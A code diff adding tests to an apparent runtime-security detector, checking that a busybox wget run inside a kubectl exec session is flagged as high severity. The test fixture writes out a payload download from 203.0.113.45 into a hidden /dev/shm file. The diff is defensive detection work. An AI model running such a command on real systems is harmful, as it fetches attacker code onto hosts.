@@ -1525,3 +1525,25 @@ describe("analysis failures fail closed", () => {
     expect(verdict.finding.reasons[0]).toMatch(/ancestors could not be analysed/);
   });
 });
+
+describe("processes seen inside an exec session", () => {
+  it("reads a busybox applet of a session process (Datadog user_session) as the process it is", () => {
+    // Prepare: wget -> /bin/busybox inside a kubectl exec shell.
+    const event = processEvent(
+      { name: "wget", path: "/bin/busybox", args: ["-q", "-O", "/dev/shm/.k", "http://203.0.113.45/k"] },
+      { viaExecSession: true, ancestors: [{ name: "sh", path: "/bin/busybox", args: ["-i"] }] },
+    );
+
+    // Act
+    const finding = findingOf(event);
+
+    // Assess
+    expect(finding.utility.name).toBe("wget");
+    expect(finding.severity).toBe("high");
+    expect(finding.reasons.at(-1)).toMatch(/through an exec session/);
+  });
+
+  it("keeps reading a requested command line (no ancestors) as a session command only", () => {
+    expect(evaluate(session("/bin/busybox", "-q", "http://203.0.113.45/k")).kind).toBe("none");
+  });
+});
